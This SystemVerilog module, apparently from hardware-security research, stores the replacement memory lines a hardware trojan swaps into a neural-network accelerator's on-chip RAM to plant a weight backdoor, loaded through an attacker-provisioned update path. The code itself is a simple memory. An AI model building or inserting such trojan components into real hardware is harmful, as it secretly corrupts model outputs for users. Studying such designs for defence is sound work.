// trojan_rom -- storage for the manipulated memory lines of the backdoor.
//
// Each entry is one complete 16-byte memory line as it must appear in the
// on-chip RAM after the exchange; the trojan replaces whole lines rather than
// single parameters, so a line holding one changed weight is stored with its
// fifteen unchanged neighbours. The store is read-only to the accelerator.
// Its contents come in through the programming interface (`prog_*`), which
// stands for the update path the attacker provisions (on an FPGA, a
// bitstream update). Reading is asynchronous, like distributed LUT-RAM, so
// the replacement line is ready in the same cycle as the line it replaces and
// the exchange costs no clock cycle.
//
// Interface: prog_we/prog_addr/prog_data write one line on the rising edge of
// clk. rd_addr -> rd_data is combinational. Contents are not reset.
//
// The depth (ROM_LINES = 128) is this design's choice: it holds the 100
// replaced parameters of the largest backdoor evaluated, at one line each.
module trojan_rom
  import dpu_pkg::*;
#(
  parameter  int unsigned ROM_LINES = 128,
  localparam int unsigned AW        = (ROM_LINES > 1) ? $clog2(ROM_LINES) : 1
) (
  input  logic          clk,
  input  logic          prog_we,
  input  logic [AW-1:0] prog_addr,
  input  line_t         prog_data,
  input  logic [AW-1:0] rd_addr,
  output line_t         rd_data
);

  line_t mem [ROM_LINES];

  always_ff @(posedge clk) begin
    if (prog_we) mem[prog_addr] <= prog_data;
  end

  assign rd_data = mem[rd_addr];

endmodule
